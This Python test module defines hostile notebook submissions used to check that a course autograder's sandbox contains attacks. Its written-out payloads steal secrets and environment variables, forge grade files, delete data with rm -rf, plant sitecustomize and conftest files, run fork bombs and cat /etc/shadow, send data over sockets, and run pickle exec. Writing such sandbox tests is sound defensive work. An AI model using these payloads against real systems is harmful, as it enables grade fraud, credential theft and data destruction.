"""The hostile set: submissions for the toy assignment ``01-toy`` (item ``double``, 3 points in 2 tests).

Each case is data: how to build the submission from the toy notebook (the body of ``double``
replaced, extra cells inserted, files placed next to it, or raw bytes) and what must happen:

* ``max_score``: never more than the same code without the attack earns (attacks that try to fake a
  grade use a wrong ``double`` worth 0, so any inflation shows);
* ``min_score``: where the engine promises to grade the rest anyway (a hanging cell is skipped);
* ``status``: "graded" or "error";
* ``pattern``: a regex the error / cell errors / notes / test outputs must match, naming the cause;
* ``wall``: seconds the job may take (results' execution_time), with the limits of ``LIMITS``.

Code is written with placeholders (``{{OUT}}``, ``{{PORT}}``...) that the builder fills with this
run's real paths, so attacks aim at the real targets (the submitted folder, OUT, the course copy,
a loopback listener). Attack code only ever runs inside the sandbox, through the engine.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from nncourse.config import GradingLimits

# Shortened limits: the whole set grades in a few minutes on 2 cores.
LIMITS = GradingLimits(cells_seconds=8, call_seconds=4, test_seconds=10, job_seconds=40)

CORRECT = '    """Twice x."""\n    return 2 * np.asarray(x, dtype=float)\n'
WRONG = "    return np.asarray(x, dtype=float)\n"  # earns 0: double(2) == 2, and the array test fails

WRONG_VALUES = r"double\(2\) should be 4(.|\n)*double: wrong values"  # both tests fail on the values
# Walls include starting a slot's sandbox (import torch: 2-4 s, ~10 s on an overloaded machine).
QUICK = 15.0  # a job with no timeout in it (quick jobs take 0.3-3 s)
CELL_HANG = 18.0  # one notebook cell hits cells_seconds (8 s), the worker restarts without it
CALL_HANG = 18.0  # test 1 hits call_seconds (4 s), test 2 fails at once (not called again)
RESTART = 20.0  # the attack kills the slot server: a new sandbox starts (imports torch again)


@dataclass(frozen=True)
class Case:
    """One submission and its expected outcome."""

    name: str
    category: str  # resources | control-flow | tampering | secrets | files | network | malformed | crash
    max_score: float
    status: str = "graded"
    pattern: str | None = None  # regex over error, cell errors, notes and test outputs
    wall: float = QUICK
    body: str | None = None  # new body of double(x); None keeps the correct one
    cells: tuple[str, ...] = ()  # code cells inserted before double's cell (after the imports)
    raw_cells: tuple[dict, ...] = ()  # whole cells (e.g. with outputs) inserted the same way
    raw: bytes | None = None  # the file's bytes instead of a notebook
    filename: str = "toy.ipynb"
    extra_files: dict = field(default_factory=dict)  # name -> str/bytes placed next to the notebook
    symlink_to: str | None = None  # the notebook is a symlink to this (placeholder) path
    min_score: float | None = None
    forbid_in_feedback: tuple[str, ...] = ()  # strings that must never appear in feedback.html

    @property
    def student(self) -> str:
        return f"h-{self.name}"


# --------------------------------------------------------------------------------- attack code
READ_HIDDEN = r'''
import glob, os
_targets = ["{{AUTOGRADERS}}/01-toy/test_double.py", "{{ROOT}}/.nncourse-secret", "{{ROOT}}/source/01-toy/toy.ipynb",
            "{{REPO}}/tests/fixtures/toycourse/autograders/01-toy/test_double.py",
            "{{REPO}}/tests/fixtures/toycourse/source/01-toy/toy.ipynb", "{{REPO}}/.nncourse-secret",
            "/autograders/01-toy/test_double.py", "/autograder/source/tests/test_double.py",
            "/root/.nncourse-secret", "{{ROOTCANARY}}", "{{TMPCANARY}}", "/proc/1/environ", "/proc/1/cmdline"]
for _pattern in ("/work/**/test_*.py", "/work/**/.nncourse-secret", "/root/**", "/autograder*/**", "/srv/**",
                 "/home/**", "/opt/**/test_double.py", "/opt/**/toy.ipynb", "/proc/*/cwd/**", "/proc/*/root/work/**",
                 "/tmp/**", "/sub/*", "{{ROOT}}/**", "{{SUBMITTED}}/**"):
    try:
        _targets += glob.glob(_pattern, recursive=True)[:300]
    except Exception:
        pass
_found, _denied = [], []
for _path in _targets:
    try:
        with open(_path, errors="replace") as _handle:
            _text = _handle.read(20000)
        if any(word in _text for word in ("points", "secret", "SECRET", "reference", "MARKER", "PRIVATE")):
            _found.insert(0, _path + " => " + _text)
        else:
            _found.append(_path + " => " + _text[:200])
    except Exception as _exc:
        _denied.append(type(_exc).__name__)
_found.append("environ: " + repr(dict(os.environ)))
LEAK = " | ".join(_found)
'''

FAKE_RESULTS = r'''
import json, os
_fake = {"student": "{{STUDENT}}", "assignment": "01-toy", "score": 999.0, "max_score": 3.0, "status": "graded",
         "execution_time": 0.1, "error": None, "tests": [], "sha256": "", "cell_errors": [], "notes": []}
_line = json.dumps({"student": "{{STUDENT}}", "sha256": "", "score": 999.0, "result": _fake})
_places = ["/autograder/results/results.json", "/out/results.json", "/tmp/results.json", "results.json",
           "/sub/results.json", "/results.json", "/opt/venv/results.json", "/root/results.json",
           "{{OUT}}/results.json", "{{OUT}}/{{STUDENT}}/01-toy/results.json", "{{OUT}}/aa-control/01-toy/results.json",
           "{{OUT}}/grades.csv", "{{OUT}}/journal.jsonl", "{{ROOT}}/gradebook.db", "{{DB}}",
           "{{SUBMITTED}}/{{STUDENT}}/01-toy/results.json", "{{ROOT}}/autograders/01-toy/results.json"]
_wrote = []
for _path in _places:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(_path)), exist_ok=True)
        with open(_path, "a" if _path.endswith(".jsonl") else "w") as _handle:
            _handle.write(_line + "\n" if _path.endswith(".jsonl") else json.dumps(_fake))
        _wrote.append(_path)
    except Exception:
        pass
'''

DELETE_OTHERS = r'''
import glob, os, shutil
for _path in ("{{SUBMITTED}}", "{{SUBMITTED}}/aa-control", "{{SUBMITTED}}/zz-control", "{{OUT}}", "{{ROOT}}",
              "{{AUTOGRADERS}}", "{{TMPCANARY}}", "{{ROOTCANARY}}", "/sub", "/autograder", "/srv/nbgrader", "/home"):
    shutil.rmtree(_path, ignore_errors=True)
    try:
        os.remove(_path)
    except OSError:
        pass
for _path in glob.glob("/sub/*") + glob.glob("{{SUBMITTED}}/*/01-toy/*.ipynb"):
    try:
        with open(_path, "w") as _handle:
            _handle.write("corrupted")
    except OSError:
        pass
    try:
        os.remove(_path)
    except OSError:
        pass
os.system("rm -rf {{SUBMITTED}} {{OUT}} {{ROOTCANARY}} {{TMPCANARY}} /sub/* 2>/dev/null")
'''

PAYLOAD = "open('{{PWN}}-planted', 'w').write('planted code ran')\n"
PLANT = r'''
import os, site, sys, sysconfig
_payload = "open('{{PWN}}-planted', 'w').write('planted code ran')\n"
_dirs = ["/tmp", "/sub", os.getcwd(), os.path.expanduser("~"), sysconfig.get_paths()["purelib"],
         sysconfig.get_paths()["stdlib"], "/opt/venv/lib/python3.11/site-packages", "/usr/lib/python3/dist-packages",
         "/usr/local/lib/python3.11/dist-packages", "/usr/lib/python3.11", "{{SITE}}", "{{AUTOGRADERS}}",
         "{{AUTOGRADERS}}/01-toy", "{{ROOT}}", "{{SUBMITTED}}", "{{SUBMITTED}}/{{STUDENT}}/01-toy", "/opt/worker"]
_dirs += list(site.getsitepackages()) + [p for p in sys.path if p]
_planted = []
for _dir in _dirs:
    for _name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "pytest.py", "zz_evil.pth"):
        try:
            with open(os.path.join(_dir, _name), "w") as _handle:
                _handle.write(_payload if not _name.endswith(".pth") else "import os; " + _payload)
            _planted.append(os.path.join(_dir, _name))
        except OSError:
            pass
sys.path.insert(0, "/tmp")
'''

NETWORK_TOP = r'''
import socket
_outcomes = []
for _family, _address in ((socket.AF_INET, ("127.0.0.1", {{PORT}})), (socket.AF_INET6, ("::1", {{PORT}}))):
    try:
        _sock = socket.socket(_family, socket.SOCK_STREAM)
        _sock.settimeout(2)
        _sock.connect(_address)
        _sock.sendall(b"exfiltrated")
        _outcomes.append("connected")
    except Exception as _exc:
        _outcomes.append(type(_exc).__name__)
'''

NETWORK_FN = r'''    import socket
    sock = socket.create_connection(("127.0.0.1", {{PORT}}), timeout=2)
    sock.sendall(b"exfiltrated from double")
    return 2 * np.asarray(x, dtype=float)
'''

SHELL = r'''
import os, subprocess
os.system("touch {{PWN}}-system; rm -rf /sub/* ~/* {{SUBMITTED}} 2>/dev/null")
subprocess.run(["sh", "-c", "echo pwned > {{PWN}}-subprocess; cat /etc/shadow"], capture_output=True)
'''

USERNS_FN = r'''    import ctypes, subprocess
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER: only a successful escape earns points
        return 2 * np.asarray(x, dtype=float)
    errno = ctypes.get_errno()
    proc = subprocess.run(["unshare", "-U", "-r", "id", "-u"], capture_output=True, text=True)
    if proc.returncode == 0 and proc.stdout.strip() == "0":
        return 2 * np.asarray(x, dtype=float)
    raise PermissionError(f"user namespace denied (errno {errno}; unshare -U -r exit {proc.returncode})")
'''

PATCH_NUMPY = r'''
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: np.True_
np.array_equal = lambda *a, **k: True
np.shape = lambda a: (5,)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
'''

PATCH_TORCH = r'''
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda *a, **k: torch.tensor(True)
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
torch.from_numpy = lambda a: torch.ones(5) * 4
'''

PATCH_BUILTINS = r'''
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda obj: 5
builtins.abs = lambda obj: 0
builtins.float = lambda *a: 4.0
builtins.repr = lambda obj: "4.0"
builtins.print = lambda *a, **k: None
builtins.sorted = lambda *a, **k: []
'''

PATCH_BUILTINS_FN = r'''    import builtins
    builtins.isinstance = lambda *a: True
    builtins.len = lambda obj: 5
    builtins.type = lambda *a: float
    return np.asarray(x, dtype=float)
'''

LYING_EQ_FN = r'''    class Liar:
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        __hash__ = object.__hash__
        def __array__(self, dtype=None, copy=None):
            return np.full(np.shape(x), 4.0)
        def __float__(self):
            return 4.0
        def __len__(self):
            raise TypeError("no length")
        def __sub__(self, other):
            return 0.0
        __rsub__ = __sub__
    return Liar()
'''

NDARRAY_SUBCLASS_FN = r'''    class Sneaky(np.ndarray):
        def __eq__(self, other):
            return np.ones(np.shape(self), bool)
        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return np.ones(np.shape(x), bool)
        def __array_function__(self, func, types, args, kwargs):
            return True
        def __array__(self, dtype=None, copy=None):
            return np.full(np.shape(x), 4.0)
    return np.zeros(np.shape(x)).view(Sneaky)
'''

TENSOR_SUBCLASS_FN = r'''    import torch
    class Sneaky(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if getattr(func, "__name__", "") in ("eq", "__eq__", "allclose", "equal", "isclose", "ne", "__ne__"):
                return True
            return super().__torch_function__(func, types, args, kwargs or {})
    return torch.zeros(np.shape(x), dtype=torch.float64).as_subclass(Sneaky)
'''

PICKLE_FN = r'''    class Payload:
        def __reduce__(self):
            return (exec, ("open('{{PWN}}-pickle', 'w').write('unpickled in the grader')",))
    return {"value": np.array([Payload()], dtype=object), "blob": __import__("pickle").dumps(Payload()),
            "obj": Payload()}
'''

# The worker's own modules are put back after every cell and call (integrity.py), so a forged reply is
# written straight into the test's socket from inside double(): the grader must still refuse it.
_RAW_REPLY = r'''
    import os, socket, struct
    for _fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        try:
            _sock = socket.socket(fileno=os.dup(_fd))
        except OSError:
            continue
        try:
            if _sock.family == socket.AF_UNIX:
                _sock.sendall(FRAMES)
        except OSError:
            pass
        finally:
            _sock.close()
    return 2 * np.asarray(x, dtype=float)
'''
FORGED_NPY_FN = r'''
    import io, struct
    class _Payload:
        def __reduce__(self):
            return (exec, ("open('{{PWN}}-forged', 'w').write('unpickled in the grader')",))
    _buffer = io.BytesIO()
    np.save(_buffer, np.array([_Payload()], dtype=object), allow_pickle=True)
    _header = b'{"ok": true, "blobs": 1, "value": {"nd": {"blob": 0}}}'
    FRAMES = struct.pack(">I", len(_header)) + _header + struct.pack(">I", len(_buffer.getvalue())) + _buffer.getvalue()
''' + _RAW_REPLY
FORGED_REPLY_FN = r'''
    import struct
    _payload = b'{"ok": true, "blobs": 0, "value": ' + b"[" * 100000 + b"]" * 100000 + b"}"
    FRAMES = struct.pack(">I", len(_payload)) + _payload
''' + _RAW_REPLY
# From a cell, the same forgeries patch the worker's modules; they are put back before any test runs.
PATCH_WIRE = r'''
import sys
_wire = sys.modules["wire"]
_wire.array_to_npy = lambda array: b"forged"
_wire.send_message = lambda sock, header, blobs=(): sock.sendall(b"\x00\x00\x00\x02[]")
'''

FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
FORK_BOMB_FN = "    import os\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n"


def _image_cell() -> dict:
    """A code cell whose stored output is a 22 MiB base64 'PNG' (outputs are never looked at)."""
    blob = "iVBORw0KGgo" + "A" * (22 << 20)
    return {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "plot()",
            "outputs": [{"output_type": "display_data", "metadata": {},
                         "data": {"image/png": blob, "text/plain": "<Figure>"}}]}


def _markdown_only() -> bytes:
    import json

    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                       "cells": [{"cell_type": "markdown", "metadata": {}, "source": "# my answers\n2x"}]}).encode()


def _non_utf8() -> bytes:
    return (b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", '
            b'"metadata": {}, "outputs": [], "execution_count": null, "source": "x = \'caf\xe9\'"}]}')


def _deep() -> bytes:
    return (b'{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": {"x": '
            + b"[" * 200_000 + b"]" * 200_000 + b"}}")


# -------------------------------------------------------------------------------------- the set

# ------------------------------------------- issue 23: plain data, the no-torch and no-optimizer rules
# The toy's test_array calls double under student.forbid_torch() and test_scalar after the
# forbid_optimizers instrument, so that both rules can be attacked here.
HUGE_SEQUENCE_FN = r'''    class _Huge:  # np.asarray on its handle would pull 8 MiB per element, 10**6 times
        def detach(self):
            return self
        def numpy(self):
            return self
        def __len__(self):
            return 10**6
        def __getitem__(self, index):
            return np.full(1 << 20, 4.0)
    return _Huge()
'''
LAZY_TORCH = r'''
import torch
_pending = {}
class _Lazy(torch.Tensor):  # autograd runs when the result is converted, after the guarded call
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if "x" not in _pending:
            return False
        x = torch.tensor(_pending["x"], requires_grad=True)
        (x * x).sum().backward()
        return x.grad.detach() if getattr(func, "__name__", "") == "detach" else False
_carrier = torch.zeros(5, dtype=torch.float64).as_subclass(_Lazy)
'''
FORK_HOOK_THREAD = r'''
import os, queue, threading
def _start_helper():  # runs in every forked test process: a thread the no-torch guard did not watch
    global _jobs, _results
    _jobs, _results = queue.Queue(), queue.Queue()
    def _work():
        import torch
        while True:
            _results.put((torch.as_tensor(_jobs.get()) * 2).numpy())
    threading.Thread(target=_work, daemon=True).start()
os.register_at_fork(after_in_child=_start_helper)
'''
CAPTURED_OPTIMIZER_INIT = r'''
import torch
_probe = torch.optim.SGD([torch.zeros(1, requires_grad=True)], lr=1.0)
_init = vars(type(_probe).__mro__[1])["__init__"]  # taken before the ban replaces it
_defaults = dict(_probe.defaults)
'''
CAPTURED_INIT_FN = r'''    import torch
    p = torch.zeros(np.shape(x), dtype=torch.float64, requires_grad=True)
    opt = object.__new__(torch.optim.SGD)
    _init(opt, [p], _defaults)
    (-(2 * torch.as_tensor(np.asarray(x, dtype=float)) * p).sum()).backward()
    opt.step()  # SGD with lr 1 from 0: p = 2 x
    return p.detach().numpy()
'''
OPTIMIZER_FROM_A_CELL = r'''
import torch
_p = torch.zeros(1, dtype=torch.float64, requires_grad=True)
_opt = torch.optim.SGD([_p], lr=1.0)  # built before the ban
'''
OPTIMIZER_FROM_A_CELL_FN = r'''    import torch
    with torch.no_grad():
        _p.zero_()
    _opt.zero_grad()
    (-(2 * float(np.asarray(x, dtype=float).reshape(-1)[0])) * _p).sum().backward()
    _opt.step()
    return float(_p.detach()[0])
'''

CASES: tuple[Case, ...] = (
    # ---- endless work, waiting, memory, processes, output
    Case("loop-top", "resources", 3, pattern=r"cell 2: did not finish within 8 s", wall=CELL_HANG, min_score=3,
         cells=("while True:\n    pass\n",)),
    Case("loop-fn", "resources", 0, pattern=r"did not return within 4 s", wall=CALL_HANG,
         body="    while True:\n        pass\n"),
    Case("numpy-long-fn", "resources", 0, pattern=r"did not return within 4 s", wall=CALL_HANG,
         body="    a = np.ones((6000, 6000))\n    a = a @ a @ a @ a\n" + CORRECT),
    Case("numpy-long-top", "resources", 3, pattern=r"cell 2: did not finish within 8 s", wall=CELL_HANG, min_score=3,
         cells=("_a = np.ones((6000, 6000))\n_b = _a @ _a @ _a @ _a @ _a\n",)),
    Case("sleep-top", "resources", 3, pattern=r"cell 2: did not finish within 8 s", wall=CELL_HANG, min_score=3,
         cells=("import time\ntime.sleep(10**6)\n",)),
    Case("sleep-fn", "resources", 0, pattern=r"did not return within 4 s", wall=CALL_HANG,
         body="    import time\n    time.sleep(10**6)\n"),
    Case("many-hanging-cells", "resources", 0, pattern=r"cell 3: did not finish within 8 s(.|\n)*"
         r"double: .*not run: the notebook hung or crashed 3 times", wall=3 * LIMITS.cells_seconds + 6,
         cells=("import time\ntime.sleep(10**6)\n",) * 4),
    Case("memory-top", "resources", 3, pattern=r"cell 2: MemoryError", min_score=3,
         cells=("_hog = bytearray(40 * 2**30)\n",)),
    Case("memory-fn", "resources", 0, pattern=r"double raised MemoryError(.|\n)*double raised MemoryError",
         body="    hog = []\n    while True:\n        hog.append(np.empty(10**8))\n"),  # address space, untouched
    Case("memory-touch-fn", "resources", 0, pattern=r"MemoryError|did not return within 4 s|more memory than the sandbox allows \(3 GiB", wall=CALL_HANG,
         body="    hog = []\n    while True:\n        hog.append(bytearray(10**8))\n"),  # 4 GiB really written
    Case("torch-alloc-fn", "resources", 0, pattern=r"RuntimeError|MemoryError",
         body="    import torch\n    return torch.ones(10**11)\n"),
    Case("fork-bomb-top", "resources", 3, pattern=r"cell 2: did not finish within 8 s", wall=CELL_HANG, min_score=3,
         cells=(FORK_BOMB,)),
    Case("fork-bomb-fn", "resources", 0, pattern=r"did not return within 4 s",
         wall=CALL_HANG, body=FORK_BOMB_FN),
    Case("daemon-top", "resources", 3, min_score=3,
         cells=("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(3600)\n",)),
    Case("print-flood-top", "resources", 3, min_score=3,
         cells=("import sys\n_chunk = 'x' * (1 << 20)\nfor _ in range(300):\n    sys.stdout.write(_chunk)\n",)),
    Case("print-flood-fn", "resources", 3, min_score=3,
         body="    import sys\n    sys.stdout.write('y' * (50 << 20))\n    sys.stderr.write('z' * (50 << 20))\n"
              + CORRECT),  # 100 MiB per call, 200 MiB per job (the 300 MiB flood is print-flood-top)
    Case("huge-image-output", "malformed", 0, status="error",
         pattern=r"notebook is 2\d\.\d MiB \(limit 20 MiB\): clear all outputs", raw_cells=(_image_cell(),)),
    # ---- ending, stopping or killing processes
    Case("sys-exit-top", "control-flow", 3, pattern=r"cell 2: SystemExit", min_score=3,
         cells=("import sys\nsys.exit(0)\n",)),
    Case("os-exit-top", "control-flow", 3, pattern=r"cell 2: your code ended the process \(exit code 0",
         min_score=3, cells=("import os\nos._exit(0)\n",)),
    Case("kill-self-top", "control-flow", 3, pattern=r"cell 2: the process running your code was killed by SIGKILL",
         min_score=3, cells=("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",)),
    Case("os-exit-fn", "control-flow", 0, pattern=r"exit code 7", body="    import os\n    os._exit(7)\n"),
    Case("sys-exit-fn", "control-flow", 0, pattern=r"raised SystemExit", body="    raise SystemExit(0)\n"),
    Case("sigstop-fn", "control-flow", 0, pattern=r"did not return within 4 s", wall=CALL_HANG,
         body="    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)\n" + CORRECT),
    Case("ignore-signals-fn", "control-flow", 0, pattern=r"did not return within 4 s", wall=CALL_HANG,
         body="    import signal\n    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, "
              "signal.SIGXCPU):\n        signal.signal(s, signal.SIG_IGN)\n    while True:\n        pass\n"),
    Case("kill-parent-top", "control-flow", 3, pattern=r"cell 2: .*(stopped answering|killed|ended)", min_score=3,
         wall=RESTART,
         cells=("import os, signal, time\nos.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(30)\n",)),
    Case("kill-parent-fn", "control-flow", 3,
         body="    import os, signal\n    os.kill(os.getppid(), signal.SIGKILL)\n" + CORRECT),
    Case("kill-group-top", "control-flow", 3, pattern=r"cell 2: the process running your code was killed by SIGKILL",
         min_score=3, cells=("import os, signal\nos.killpg(os.getpgrp(), signal.SIGKILL)\n",)),
    Case("kill-all-top", "control-flow", 3, pattern=r"cell 2: the process running your code stopped answering "
         r"while it ran", min_score=3, wall=RESTART,
         cells=("import os, signal\nos.kill(-1, signal.SIGKILL)\n",)),
    Case("kill-all-fn-loop", "control-flow", 0,
         pattern=r"double: .*(stopped answering|killed|did not return)|double raised ProcessLookupError",
         wall=RESTART, body="    import os, signal\n    while True:\n        os.kill(-1, signal.SIGKILL)\n"),
    Case("close-fds-top", "control-flow", 3, pattern=r"cell 2: .* while it ran; it was skipped", min_score=3,
         wall=RESTART,
         cells=("import os\nfor _fd in range(3, 1024):\n    try:\n        os.close(_fd)\n    except OSError:\n        pass\n",)),
    # ---- tampering with comparisons and with what crosses the boundary (wrong double: worth 0)
    Case("patch-numpy", "tampering", 0, pattern=WRONG_VALUES,
         cells=(PATCH_NUMPY,), body=WRONG),
    Case("patch-torch", "tampering", 0, pattern=WRONG_VALUES,
         cells=(PATCH_TORCH,), body=WRONG),
    Case("patch-builtins", "tampering", 0, pattern=r"replaced Python built-ins \(.*isinstance", cells=(PATCH_BUILTINS,),
         body=WRONG),
    Case("patch-builtins-fn", "tampering", 0, pattern=WRONG_VALUES, body=PATCH_BUILTINS_FN),
    Case("lying-eq-array", "tampering", 0, pattern=r"double returned a Liar object, not numbers",
         body=LYING_EQ_FN),
    Case("ndarray-subclass", "tampering", 0, pattern=WRONG_VALUES,
         body=NDARRAY_SUBCLASS_FN),
    Case("tensor-subclass", "tampering", 0,
         pattern=r"double\(2\) should be 4(.|\n)*double: torch is not allowed here",
         body=TENSOR_SUBCLASS_FN),
    Case("pickle-return", "tampering", 0, pattern=r"could not be checked(.|\n)*double should keep the shape",
         body=PICKLE_FN),
    Case("forged-npy-pickle", "tampering", 0, pattern=r"could not be read|malformed array", body=FORGED_NPY_FN),
    Case("forged-deep-reply", "tampering", 0, pattern=r"double: your code's reply could not be read \(malformed message: RecursionError",
         body=FORGED_REPLY_FN),
    Case("patch-worker-modules", "tampering", 3, min_score=3, cells=(PATCH_WIRE,),
         pattern=r"changed the grader's own tools inside the sandbox \(.*wire\.(array_to_npy|send_message)"),
    Case("huge-result", "tampering", 0, pattern=r"double: your code's reply could not be read \(frame of \d+ bytes exceeds the limit",
         body="    return np.zeros(10_000_000)\n"),  # 80 MB: over the 64 MiB cap, quick to make
    # ---- hidden tests, secrets, grades and other students
    Case("read-hidden", "secrets", 0, pattern=r"double raised RuntimeError.*: LEAK:", cells=(READ_HIDDEN,),
         body="    raise RuntimeError('LEAK: ' + LEAK)\n"),
    Case("echo-inputs", "secrets", 0, pattern=r"INPUT \[",
         body="    raise ValueError('INPUT ' + repr(np.asarray(x).tolist()))\n"),
    Case("symlink-to-hidden-test", "secrets", 0, status="error", pattern=r"not a regular file",
         symlink_to="{{AUTOGRADERS}}/01-toy/test_double.py"),
    Case("fake-results", "secrets", 0, pattern=WRONG_VALUES, cells=(FAKE_RESULTS,),
         body=WRONG),
    Case("fake-results-exit", "secrets", 0, pattern=r"exit code 0",
         body="    exec(FAKE, {})\n    import os\n    os._exit(0)\n",
         cells=("FAKE = " + repr(FAKE_RESULTS) + "\n",)),
    Case("delete-others", "secrets", 3, min_score=3, cells=(DELETE_OTHERS,)),
    Case("html-injection", "secrets", 0, pattern=r"double raised ValueError",
         body="    raise ValueError('<script>alert(1)</script>\\x1b[31m</td></table>')\n",
         forbid_in_feedback=("<script>alert(1)", "</td></table>")),
    # ---- planting code for the grader or the next student
    Case("plant-conftest", "files", 3, min_score=3, cells=(PLANT,),
         extra_files={"conftest.py": PAYLOAD, "sitecustomize.py": PAYLOAD, "numpy.py": PAYLOAD,
                      "pytest.ini": "[pytest]\naddopts = -p conftest\n", "test_double.py": PAYLOAD}),
    # ---- network, shells, namespaces
    Case("network", "network", 0, pattern=r"double raised (PermissionError|OSError|ConnectionRefusedError)",
         cells=(NETWORK_TOP,), body=NETWORK_FN),
    Case("shell-escapes", "network", 3, pattern=r"not run \(IPython syntax\): %%bash", min_score=3,
         cells=("!rm -rf ~ /sub\nfiles = !ls /\n%pip install requests\n",
                "%%bash\ntouch {{PWN}}-bash\nrm -rf ~ {{SUBMITTED}}\n", SHELL)),
    Case("nested-userns", "network", 0, pattern=r"user namespace denied", body=USERNS_FN),
    # ---- broken files
    Case("malformed-json", "malformed", 0, status="error", pattern=r"not valid JSON",
         raw=b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1"'),
    Case("non-utf8", "malformed", 0, status="error", pattern=r"not valid UTF-8", raw=_non_utf8()),
    Case("deep-nesting", "malformed", 0, status="error", pattern=r"nested too deeply", raw=_deep()),
    Case("not-a-notebook", "malformed", 0, status="error", pattern=r"not a Jupyter notebook", raw=b"[1, 2, 3]"),
    Case("no-code-cells", "malformed", 0, status="error", pattern=r"no code cells", raw=_markdown_only()),
    Case("renamed-notebook", "malformed", 3, min_score=3, pattern=r"graded my-copy\.ipynb \(expected toy\.ipynb\)",
         filename="my-copy.ipynb"),
    Case("two-notebooks", "malformed", 0, status="error", pattern=r"several notebooks and none named toy\.ipynb",
         filename="a.ipynb", extra_files={"b.ipynb": b"{}"}),
    # ---- crashes
    Case("segfault-fn", "crash", 0, pattern=r"killed by a segmentation fault",
         body="    import ctypes\n    return ctypes.string_at(0)\n"),
    Case("recursion-fn", "crash", 0, pattern=r"segmentation fault|RecursionError|did not return",
         body="    import sys\n    sys.setrecursionlimit(10**7)\n    def f(n):\n        return f(n + 1) + 1\n"
              "    return f(0)\n"),
    # ---- issue 23: only plain data reaches the grader; the no-torch and no-optimizer rules hold
    Case("huge-sequence-result", "tampering", 0, pattern=r"double returned a _Huge object, not numbers",
         body=HUGE_SEQUENCE_FN),
    Case("lazy-torch-result", "tampering", 1, pattern=WRONG_VALUES, cells=(LAZY_TORCH,),
         body="    _pending['x'] = np.asarray(x, dtype=float)\n    return _carrier\n"),
    Case("torch-in-a-fork-hook-thread", "tampering", 1, pattern=r"double: .*other threads",
         cells=(FORK_HOOK_THREAD,),
         body="    _jobs.put(np.asarray(x, dtype=float))\n    return _results.get()\n"),
    Case("optimizer-init-captured", "tampering", 0, pattern=r"torch\.optim is not allowed",
         cells=(CAPTURED_OPTIMIZER_INIT,), body=CAPTURED_INIT_FN),
    Case("optimizer-built-in-a-cell", "tampering", 0, pattern=r"torch\.optim is not allowed",
         cells=(OPTIMIZER_FROM_A_CELL,), body=OPTIMIZER_FROM_A_CELL_FN),
)

CONTROLS = ("aa-control", "zz-control")  # graded first and last, next to the hostile set: 3/3 each

# ---- issue 23: texts of any size from a student are capped where they enter (item 6)
_LONG = '"<cell " + "w" * 7_000_000 + ">"'  # a 7 MB "file name" that looks like a cell's
CASES += (
    Case("long-texts", "malformed", 0, pattern=r"double raised ValueError \(cell w+…\)",
         cells=("Huge = type('E' * 7_000_000, (Exception,), {})\nraise Huge('m' * 7_000_000)\n",),
         body="    exec(compile('raise ValueError(\"x\" * 7_000_000)', " + _LONG + ", 'exec'), {})\n"),
)

# ---- issue 23: another student's /tmp (item 1): folders nested beyond PATH_MAX, the last one chmod 0
# and full of files until the tmpfs is full; the slot must be wiped (or rebuilt) before the next job.
# tests/test_slot_tmp.py grades 04-tensorboard students after it in the same slot.
DEEP_FILL = r'''
import os
_top = os.open("/tmp", os.O_RDONLY)
_fd = _top
for _level in range(18):  # 18 x 251 characters: beyond PATH_MAX (4096)
    _name = chr(97 + _level) * 250
    os.mkdir(_name, dir_fd=_fd)
    _fd = os.open(_name, os.O_RDONLY, dir_fd=_fd)
os.mkdir("bottom", dir_fd=_fd)
_bottom = os.open("bottom", os.O_RDONLY, dir_fd=_fd)
for _part in range(8):  # 8 x 60 MiB files (RLIMIT_FSIZE is 64 MiB): until the tmpfs is full
    try:
        _out = os.open(f"part{_part}", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=_bottom)
        for _ in range(60):
            os.write(_out, b"x" * (1 << 20))
    except OSError:
        break
os.chmod("bottom", 0, dir_fd=_fd)
os.chmod(chr(97) * 250, 0o311, dir_fd=_top)
'''
CASES += (
    Case("tmp-deep-fill", "files", 3, min_score=3, cells=(DEEP_FILL,)),
)

